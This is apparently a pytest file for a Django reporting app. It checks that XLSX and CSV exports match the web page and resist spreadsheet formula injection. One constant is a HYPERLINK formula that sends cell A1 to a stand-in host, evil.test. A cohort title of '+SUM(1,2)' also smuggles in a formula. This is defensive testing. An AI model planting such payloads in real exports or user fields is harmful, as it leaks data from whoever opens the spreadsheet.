"""The Excel workbook, read by a second reader (LibreOffice, converted to .fods), and the tidy
CSV read back with Python's csv module against the page."""

import csv
import datetime as dt
import io
import os
import subprocess
import uuid
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser
from pathlib import Path

from django.urls import reverse
from django.utils import timezone

from cohorts.models import Cohort, Enrolment, EnrolmentStatus, ReportExport, Target, TargetMeasure
from cohorts.reports.exports import report_export_build

NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'


def built(user, fmt: str, **filters) -> bytes:
    export = ReportExport.objects.create(requested_by=user, format=fmt, filters=filters)
    export = report_export_build(export_id=export.pk)
    assert export.status == "ready", export.error
    with export.file.open("rb") as handle:
        return handle.read()


def libreoffice_sheets(data: bytes, tmp_path: Path) -> dict[str, list[list[tuple]]]:
    """The workbook as LibreOffice reads it: each sheet's rows of (office:value-type, value,
    text), through a conversion to flat ODF with a profile of this test worker's own."""
    worker = os.environ.get("PYTEST_XDIST_WORKER", "main")
    profile = Path(f"/tmp/infuse-libreoffice-{worker}-{os.getpid()}")
    source = tmp_path / f"book-{uuid.uuid4().hex}.xlsx"
    source.write_bytes(data)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--norestore",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    root = ET.parse(source.with_suffix(".fods")).getroot()
    sheets = {}
    for sheet in root.iter(f"{{{NS['table']}}}table"):
        rows = []
        for row in sheet.iter(f"{{{NS['table']}}}table-row"):
            cells = []
            for cell in row:
                if not cell.tag.endswith("table-cell"):
                    continue
                repeat = int(cell.get(f"{{{NS['table']}}}number-columns-repeated", "1"))
                kind = cell.get(f"{{{NS['office']}}}value-type", "")
                value = cell.get(f"{{{NS['office']}}}value")
                text = " ".join("".join(p.itertext()) for p in cell.iter(f"{{{NS['text']}}}p"))
                cells += [(kind, value, text)] * min(repeat, 50)
            rows.append(cells)
        sheets[sheet.get(f"{{{NS['table']}}}name")] = rows
    return sheets


def row_of(rows, label: str) -> list[tuple]:
    return next(r for r in rows if r and r[0][2] == label)


def header_of(rows, first: str) -> list[str]:
    return [text for _kind, _value, text in row_of(rows, first)]


def test_the_funders_workbook_as_libreoffice_reads_it(programme, funder, tmp_path):
    Target.objects.create(measure=TargetMeasure.STARTED, value=100)
    sheets = libreoffice_sheets(built(funder, "xlsx", period="fy-2025"), tmp_path)
    names = list(sheets)
    assert names[:7] == [
        "About this report",
        "Figures by lab and council",
        "Councils by lab",
        "Figures by theme",
        "Figures by quarter",
        "Progress to date",
        "Targets",
    ]
    assert names[-1] == "Definitions"
    # Then the outcome and equality tables, a sheet each (Excel's 31 characters at most).
    assert any(name.startswith("Self-assessment") for name in names[7:-1])
    assert any(name.startswith("Six months on") for name in names[7:-1])
    by_lab = sheets["Figures by lab and council"]
    header = header_of(by_lab, "Lab and council")
    bridgend = dict(zip(header, row_of(by_lab, "Data Lab: Bridgend"), strict=False))
    assert bridgend["Enrolled"] == ("float", "28", "28")
    assert bridgend["Completed"] == ("float", "15", "15")
    newport = dict(zip(header, row_of(by_lab, "Data Lab: Newport"), strict=False))
    assert newport["Completed"] == ("string", None, "<5")
    cardiff = dict(zip(header, row_of(by_lab, "Data Lab: Cardiff"), strict=False))
    assert cardiff["Completed"] == ("string", None, "[c]")
    total = dict(zip(header, row_of(by_lab, "Total"), strict=False))
    assert total["Enrolled"] == ("float", "77", "77")
    kind, value, _text = total["Attendance rate"]
    assert kind == "percentage" and 0 < float(value) < 1
    targets = sheets["Targets"]
    started = dict(
        zip(
            header_of(targets, "Measure and place"),
            row_of(targets, "Started · All labs · All councils"),
            strict=False,
        )
    )
    assert header_of(targets, "Measure and place")[:2] == ["Measure and place", "Target"]
    assert started["Target"] == ("float", "100", "100")
    assert started["Share of target reached"][0] == "percentage"
    about = [cell[2] for row in sheets["About this report"] for cell in row]
    assert "Financial year 2025–26" in about and "[c]" in about and "<5" in about
    definitions = [cell[2] for row in sheets["Definitions"] for cell in row]
    assert "Learning hours" in definitions


def test_a_hostile_name_stays_text_in_the_leads_workbook(
    programme, lead, make_user, cardiff, tmp_path
):
    officer = make_user("officer@cardiff.test", council=cardiff, name=HOSTILE)
    Enrolment.objects.create(
        cohort=programme["cohorts"]["D1"],
        user=officer,
        status=EnrolmentStatus.ACTIVE,
        enrolled_at=timezone.make_aware(dt.datetime(2025, 4, 15, 10)),
    )
    data = built(lead, "xlsx")
    sheets = libreoffice_sheets(data, tmp_path)
    assert "Your council’s people" in sheets
    row = row_of(sheets["Your council’s people"], HOSTILE)
    assert row[0] == ("string", None, HOSTILE)
    assert row[1] == ("string", None, "officer@cardiff.test")
    # Headers are frozen on every sheet but "About this report" (the first).
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = sorted(n for n in book.namelist() if n.startswith("xl/worksheets/sheet"))
        frozen = ['state="frozen"' in book.read(n).decode() for n in names]
    assert len(frozen) == len(sheets) and frozen.count(False) == 1
    assert not frozen[names.index("xl/worksheets/sheet1.xml")]


def test_a_staff_workbook_has_a_sheet_per_cohort_line_with_hostile_titles_as_text(
    programme, staff, tmp_path
):
    Cohort.objects.filter(pk=programme["cohorts"]["D1"].pk).update(title="+SUM(1,2) cohort")
    sheets = libreoffice_sheets(built(staff, "xlsx", period="fy-2025"), tmp_path)
    row = row_of(sheets["Cohorts"], "+SUM(1,2) cohort")
    assert row[0] == ("string", None, "+SUM(1,2) cohort")
    assert row[1] == ("string", None, "Data Lab")
    assert ("float", "35", "35") in row  # enrolled, a number


class LabTable(HTMLParser):
    """The page's "Figures by lab and council": {(lab, row): {measure: data-figure}}."""

    def __init__(self):
        super().__init__()
        self.inside = False
        self.columns, self.rows = [], {}
        self.lab = self.row = None
        self.in_th = self.in_group = False
        self.text = ""
        self.cells: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table" and attrs.get("id") == "lab-council-table":
            self.inside = True
        if not self.inside:
            return
        if tag == "tbody":
            self.lab = None
        if tag == "th":
            self.in_th, self.text = True, ""
            self.in_group = attrs.get("scope") == "rowgroup"
            self.scope = attrs.get("scope")
        if tag == "td" and "data-figure" in attrs:
            self.cells.append(attrs["data-figure"])

    def handle_data(self, data):
        if self.inside and self.in_th:
            self.text += data

    def handle_endtag(self, tag):
        if not self.inside:
            return
        if tag == "th":
            self.in_th = False
            text = self.text.strip()
            if self.scope == "col":
                self.columns.append(text)
            elif self.in_group:
                self.lab = text
            else:
                self.row, self.cells = text, []
        if tag == "tr" and self.row is not None:
            self.rows[(self.lab, self.row)] = dict(zip(self.columns[1:], self.cells, strict=True))
            self.row = None
        if tag == "table":
            self.inside = False


def test_the_tidy_csv_read_back_gives_the_funders_page_figures(client, programme, funder):
    client.force_login(funder)
    page = LabTable()
    page.feed(client.get(reverse("reports"), {"period": "fy-2025"}).content.decode())
    assert len(page.rows) > 8
    data = built(funder, "csv", period="fy-2025")
    assert data.startswith("\ufeff".encode())  # the byte-order mark Excel needs
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Period", "Lab", "Council", "Theme", "Measure", "Value", "Note"]
    assert all(len(row) == 7 for row in rows)
    figures = {tuple(row[:5]): row[5] or row[6] for row in rows[1:]}
    assert len(figures) == len(rows) - 1  # one row per figure
    checked = 0
    for (lab, label), cells in page.rows.items():
        if label == "Total":
            lab, council = "All labs", "All councils"
        else:
            council = label
        for measure, figure in cells.items():
            key = ("Financial year 2025–26", lab, council, "Both themes", measure)
            assert figures[key] == figure, key
            checked += 1
    assert checked > 60
    # No theme inside a Lab × council figure for funders; nothing that a spreadsheet would run.
    assert {row[3] for row in rows[1:] if row[1] not in ("All labs",)} <= {"Both themes"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
